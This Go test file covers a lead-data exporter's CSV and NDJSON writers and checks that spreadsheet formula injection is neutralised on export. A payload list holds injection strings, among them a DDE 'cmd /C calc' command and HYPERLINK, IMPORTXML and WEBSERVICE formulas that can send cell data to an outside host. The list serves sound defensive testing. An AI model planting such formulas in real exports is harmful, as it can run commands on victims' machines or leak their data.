package bulk

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"galena/internal/engine"
	"galena/internal/lead"
)

func text(s string) lead.Value { return lead.Value{Kind: lead.Text, Text: s} }

func writeLeads(t interface{ Fatal(...any) }, f Format, scores, attributes []string, leads ...Lead) string {
	var b bytes.Buffer
	w := NewLeadWriter(&b, f, scores, attributes)
	for i := range leads {
		if err := w.Write(&leads[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

var ada = Lead{
	ID: "lead_7", Kind: "lead", Emails: []string{"ada@x.example", "a@y.example"}, UserIDs: []string{"=u1"},
	Stage: "MQL", StageSince: now, Scores: map[string]lead.Points{"fit": -5000, "score": 12500},
	Grade: "A", Account: "x.example", FirstSeen: now, LastSeen: now + 1,
	Attributes: Attributes{
		"title": text("@cto"), "phone": text("+4930 1"), "visits": {Kind: lead.Number, Num: -1e21}, "paid": {Kind: lead.Bool, Num: 1},
		"since": {Kind: lead.Moment, Num: float64(now)}, "tags": {Kind: lead.List, List: []string{"a", "b"}}, "gone": {},
	},
}

func TestLeadsAsCSV(t *testing.T) {
	t.Parallel()
	got := writeLeads(t, CSV, []string{"fit", "other"}, []string{"title", "phone", "visits", "paid", "since", "tags", "gone", "none"}, ada)
	want := "id,kind,emails,user_ids,stage,stage_since,scores.fit,scores.other,grade,account,excluded,first_seen,last_seen," +
		"attributes.title,attributes.phone,attributes.visits,attributes.paid,attributes.since,attributes.tags,attributes.gone,attributes.none\r\n" +
		"lead_7,lead,\"ada@x.example;a@y.example\",'=u1,MQL,2025-06-15T15:06:40.000Z,-5,,A,x.example,,2025-06-15T15:06:40.000Z,2025-06-15T15:06:40.001Z," +
		"'@cto,'+4930 1,-1000000000000000000000,true,2025-06-15T15:06:40.000Z,\"a;b\",,\r\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestLeadsAsNDJSON(t *testing.T) {
	t.Parallel()
	got := writeLeads(t, NDJSON, nil, nil, ada, Lead{ID: "lead_8", Kind: "visitor"})
	want := `{"id":"lead_7","kind":"lead","emails":["ada@x.example","a@y.example"],"user_ids":["=u1"],"stage":"MQL","stage_since":"2025-06-15T15:06:40.000Z","scores":{"fit":-5,"score":12.5},"grade":"A","account":"x.example","excluded":"","first_seen":"2025-06-15T15:06:40.000Z","last_seen":"2025-06-15T15:06:40.001Z","attributes":{"paid":true,"phone":"+4930 1","since":"2025-06-15T15:06:40.000Z","tags":["a","b"],"title":"@cto","visits":-1e+21}}` + "\n" +
		`{"id":"lead_8","kind":"visitor","emails":[],"user_ids":[],"stage":"","stage_since":"","scores":{},"grade":"","account":"","excluded":"","first_seen":"","last_seen":"","attributes":{}}` + "\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestEvents(t *testing.T) {
	t.Parallel()
	events := []lead.Event{
		{Seq: 3, Lead: 7, MessageID: "-m", Type: lead.Track, Name: "=A", UserID: "u", GroupID: "g", PreviousID: "p",
			Occurred: now, Received: now + 1, Origin: lead.Import, Source: -2, Backfill: true,
			Body: []byte(`{"context":{"ip":"::1"},"other":1,"properties":{"n":12345678901234567890}}`)},
		{Lead: 8, MessageID: "m2", Type: lead.Page, Name: "Home", AnonymousID: "a", Occurred: now, Received: now, Origin: lead.Browser},
	}
	write := func(f Format) string {
		var b bytes.Buffer
		w := NewEventWriter(&b, f)
		for i := range events {
			x, err := EventOf(&events[i])
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(&x); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	if got, want := write(NDJSON), `{"message_id":"-m","type":"track","event":"=A","name":"","user_id":"u","anonymous_id":"","group_id":"g","previous_id":"p","occurred":"2025-06-15T15:06:40.000Z","received":"2025-06-15T15:06:40.001Z","lead":"lead_7","origin":"import","source":-2,"backfill":true,"properties":{"n":12345678901234567890},"context":{"ip":"::1"}}
{"message_id":"m2","type":"page","event":"","name":"Home","user_id":"","anonymous_id":"a","group_id":"","previous_id":"","occurred":"2025-06-15T15:06:40.000Z","received":"2025-06-15T15:06:40.000Z","lead":"lead_8","origin":"browser","source":0,"backfill":false}
`; got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if got, want := write(CSV), "message_id,type,event,name,user_id,anonymous_id,group_id,previous_id,occurred,received,lead,origin,source,backfill,properties,traits,context\r\n"+
		`'-m,track,'=A,,u,,g,p,2025-06-15T15:06:40.000Z,2025-06-15T15:06:40.001Z,lead_7,import,-2,true,"{""n"":12345678901234567890}",,"{""ip"":""::1""}"`+"\r\n"+
		"m2,page,,Home,,a,,,2025-06-15T15:06:40.000Z,2025-06-15T15:06:40.000Z,lead_8,browser,0,false,,,\r\n"; got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if _, err := EventOf(&lead.Event{Body: []byte("{")}); err == nil {
		t.Error("a torn body is exported")
	}
}

func TestDecisionsAndLines(t *testing.T) {
	t.Parallel()
	d := lead.Decision{Lead: 7, Cycle: 2, Stage: "=SQL", From: "MQL", Role: "ready", Nth: 3, At: now, Event: "-m", Version: 4, Verb: lead.Retracted, Recorded: now + 1}
	l := Line{Lead: "lead_7", Of: "score", AsOf: now, Version: 4, Line: engine.Line{
		Score: "fit", Rule: "boss", Label: "+decides", Signal: "visit", Event: "@m", At: now, Raw: 20_500, Limited: -1_000, Lapsed: -3_000, Capped: -2_250, Decayed: -1, Points: 14_249,
	}}
	write := func(f Format) string {
		var b bytes.Buffer
		w := NewDecisionWriter(&b, f)
		x := DecisionOf(9, &d)
		v := NewLineWriter(&b, f)
		if err := errors.Join(w.Decision(&x), w.Flush(), v.Line(&l), v.Flush()); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	if got, want := write(CSV), "id,lead,original,cycle,stage,from,role,nth,at,event,version,verb,recorded\r\n"+
		"lead_7/2/=SQL/3,lead_9,lead_7,2,'=SQL,MQL,ready,3,2025-06-15T15:06:40.000Z,'-m,4,retracted,2025-06-15T15:06:40.001Z\r\n"+
		"lead,of,score,rule,label,signal,event,at,raw,limited,lapsed,capped,decayed,points,as_of,version,failed\r\n"+
		"lead_7,score,fit,boss,'+decides,visit,'@m,2025-06-15T15:06:40.000Z,20.5,-1,-3,-2.25,-0.001,14.249,2025-06-15T15:06:40.000Z,4,false\r\n"; got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if got, want := write(NDJSON), `{"id":"lead_7/2/=SQL/3","lead":"lead_9","original":"lead_7","cycle":2,"stage":"=SQL","from":"MQL","role":"ready","nth":3,"at":"2025-06-15T15:06:40.000Z","event":"-m","version":4,"verb":"retracted","recorded":"2025-06-15T15:06:40.001Z"}
{"lead":"lead_7","of":"score","score":"fit","rule":"boss","label":"+decides","signal":"visit","event":"@m","at":"2025-06-15T15:06:40.000Z","raw":20.5,"limited":-1,"lapsed":-3,"capped":-2.25,"decayed":-0.001,"points":14.249,"failed":false,"as_of":"2025-06-15T15:06:40.000Z","version":4}
`; got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestWritersTellOfErrors(t *testing.T) {
	t.Parallel()
	for _, f := range []Format{CSV, NDJSON} {
		w := NewLeadWriter(full{}, f, nil, nil)
		if err := errors.Join(w.Write(&ada), w.Flush()); !errors.Is(err, errFull) {
			t.Errorf("%s of leads: %v", f, err)
		}
		e := NewEventWriter(full{}, f)
		if err := errors.Join(e.Write(&Event{}), e.Flush()); !errors.Is(err, errFull) {
			t.Errorf("%s of events: %v", f, err)
		}
	}
}

var errFull = errors.New("disk full")

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }

// payloads are texts that spreadsheets may run, and their harmless neighbours.
var payloads = []string{
	"=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", `=HYPERLINK("https://canary.example/"&A1)`, "=IMPORTXML(A1)", "=WEBSERVICE(A1)",
	"\t=1", "\r=1", "\n=1", " =1", `"=1`, ";=1", ",=1", "|=1", "＝1", "＋1", "－1", "＠1", "'=1", "''=1", "'''+1", "-5", "+4930123456", "@handle", "=",
	"\x00=1", "'\x00=1", "\ufffd=1", "'", "''", "'a", "a=1", "a\r\nb", "a\nb", "a\rb", `a"b`, `""`, "a,b;c\td|e", " a ", "ü", "1e5", "=1;=2",
}

// exportImportExport writes a text, reads it back, writes what was read, and
// gives all three.
func exportImportExport(t interface {
	Fatal(...any)
	Fatalf(string, ...any)
}, value string) (first, read, second string) {
	write := func(value string) string {
		x := Lead{ID: "lead_1", UserIDs: []string{"u1"}, Attributes: Attributes{"a": text(value)}}
		return writeLeads(t, CSV, nil, []string{"a"}, x)
	}
	m := &Mapping{Source: "s", UserID: "user_ids", Traits: []Field{{"a", Datum{Column: "attributes.a"}}}}
	first = write(value)
	r, err := NewReader(strings.NewReader(first), Options{Mapping: m, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	row, err := r.Next()
	if err != nil || row.Reject != nil {
		t.Fatalf("%q was not read back: %v, %+v", first, err, row.Reject)
	}
	read, _ = row.Events[0].Traits["a"].(string)
	return first, read, write(read)
}

func TestFormulasComeBack(t *testing.T) {
	t.Parallel()
	for _, p := range payloads {
		first, read, second := exportImportExport(t, p)
		if first != second {
			t.Errorf("%q is exported as\n%q, and again as\n%q", p, first, second)
		}
		if want := strings.ReplaceAll(p, "\x00", "\ufffd"); read != want {
			t.Errorf("%q comes back as %q", p, read)
		}
	}
}

// No program that reads CSV finds a cell that a spreadsheet would run.
func TestExportedCellsAreSafe(t *testing.T) {
	t.Parallel()
	check := func(t interface {
		Fatal(...any)
		Fatalf(string, ...any)
	}, p string) {
		first, _, _ := exportImportExport(t, p)
		rows, err := csv.NewReader(strings.NewReader(first)).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[0]) != len(rows[1]) {
			t.Fatalf("%q: a standard reader sees %q, %v", p, rows, err)
		}
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\x00") || strings.ContainsRune(cell, 0) ||
				strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＋") || strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠") {
				t.Fatalf("%q: the cell %q may run", p, cell)
			}
		}
	}
	for _, p := range payloads {
		check(t, p)
	}
	any := rapid.Map(rapid.StringOf(rapid.SampledFrom([]rune("='\"+-@\t\r\n\x00＝＠,;| ab\ufffd"))), func(s string) string { return s + "x" })
	rapid.Check(t, func(t *rapid.T) {
		p := any.Draw(t, "text")
		check(t, p)
		first, read, second := exportImportExport(t, p)
		if want := strings.ReplaceAll(p, "\x00", "\ufffd"); first != second || read != want {
			t.Fatalf("%q comes back as %q; exported as %q, then %q", p, read, first, second)
		}
	})
}
